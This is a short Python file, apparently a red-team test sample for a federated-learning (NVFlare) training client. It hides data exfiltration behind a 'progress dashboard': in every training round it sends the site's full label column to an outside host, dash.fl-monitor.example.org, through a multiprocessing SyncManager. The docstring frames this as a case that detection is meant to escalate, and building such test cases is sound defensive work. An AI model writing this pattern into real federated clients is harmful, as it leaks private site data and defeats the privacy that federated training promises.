"""Red team 60b: per-round statistics and the site's label column shared through a SyncManager subclass whose
address comes from a module constant, as a "progress dashboard". Escalated on main only as unvouched uses."""
from multiprocessing.managers import SyncManager

import pandas as pd
import torch

import nvflare.client as flare

DASHBOARD = ("dash.fl-monitor.example.org", 6001)


class Dashboard(SyncManager):
    """Progress shared with the lab's dashboard."""


Dashboard.register("board")

df = pd.read_csv("/data/site/train.csv")
X = torch.tensor(df.drop(columns=["y"]).values, dtype=torch.float32)
Y = torch.tensor(df["y"].values, dtype=torch.float32)

flare.init()
dash = Dashboard(DASHBOARD, authkey=b"dash")
dash.connect()
board = dash.board()
net = torch.nn.Linear(X.shape[1], 1)
opt = torch.optim.SGD(net.parameters(), lr=0.1)
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    opt.zero_grad()
    loss = torch.nn.functional.mse_loss(net(X).squeeze(-1), Y)
    loss.backward()
    opt.step()
    board.update({"round": model.current_round, "labels": Y.tolist()})
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": loss.item()}))
